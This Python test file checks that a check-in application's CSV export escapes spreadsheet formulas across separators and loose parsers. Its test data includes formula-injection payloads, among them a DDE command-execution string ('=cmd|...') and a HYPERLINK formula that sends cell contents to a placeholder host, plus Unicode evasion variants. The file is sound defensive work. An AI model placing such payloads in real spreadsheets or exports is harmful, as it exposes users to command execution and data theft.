"""CSV that no spreadsheet takes for formulas, read by rules as strict and as loose as the programs' own."""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterator

import pytest
from hypothesis import given
from hypothesis import strategies as st

from checkin_desktop.domain.spreadsheets import harmless, table

SIGNS = "=+-@＝＋－＠"
ATTACKS = (
    *("=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "＝1", " \t＋1", "'=1", '"=1', "\ufeff=1"),
    *("a;=1", "a\t=1", "a\n=1", "a\r\n-1", "a; +1", 'a;"=1"', "a|@x", "=cmd|' /C calc'!A0", "\tx", "\u00a0=1"),
    '=HYPERLINK("http://example.org?x="&A1,"see")',
    *("\x00=1", "a;\x1f=1", "\u2009+1", "\u202a-1", "\u2066@x", "\u00ad=1"),
)
texts = st.text(st.sampled_from([*SIGNS, *";,\t\r\n|'\" \ufeffaé0", "\u200e", "\u3000"]), max_size=12)


def cells(data: bytes, separator: str) -> Iterator[str]:
    """What a program with another list separator sees, and one that does not know quotation marks at all."""
    text = data.decode("utf-8-sig")
    for row in csv.reader(io.StringIO(text, newline=""), delimiter=separator):
        yield from row
    for line in re.split(r"[\r\n\v\f\u0085\u2028\u2029]", text):
        yield from line.split(separator)


def begins_formula(cell: str) -> bool:
    """As LibreOffice and Excel judge: the first sign that is no white space; quotation marks are gone."""
    bare = cell.strip(' "\t\r\n\v\f\u00a0\u3000\u200b\u200e\u200f\u2060\ufeff\x00\x1f\u2009\u202a\u2066\u00ad')
    return bare[:1] in tuple(SIGNS)


@pytest.mark.parametrize("attack", ATTACKS)
def test_known_attacks_are_texts(attack: str) -> None:
    assert not begins_formula(harmless(attack))
    data = table(("a", "b"), [("x", attack)])
    for separator in (";", "\t", "|", ","):
        assert [cell for cell in cells(data, separator) if begins_formula(cell)] == []


@given(texts)
def test_no_text_becomes_a_formula_under_any_separator(text: str) -> None:
    data = table(("a", "b"), [("x", text)])
    (row,) = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))[1:]
    assert not begins_formula(row[1])
    for separator in ";\t|":
        assert [cell for cell in cells(data, separator) if begins_formula(cell)] == []


@given(texts)
def test_nothing_but_apostrophes_is_added(text: str) -> None:
    assert harmless(text).replace("'", "") == text.replace("'", "")


def test_what_is_harmless_stays_as_it_is() -> None:
    for text in ("212-436-9315", "María = Reyes", "a-b", "José; Ana", "1 + 1", "línea\notra", "", "Nguyễn 王 Ж"):
        assert harmless(text) == text


def test_the_file_follows_the_rules_of_csv() -> None:
    data = table(("one", "two"), [('say "hi"', "a\nb"), ("é", None), (7, "x,y")])
    assert data == '\ufeff"one","two"\r\n"say ""hi""","a\nb"\r\n"é",""\r\n"7","x,y"\r\n'.encode()
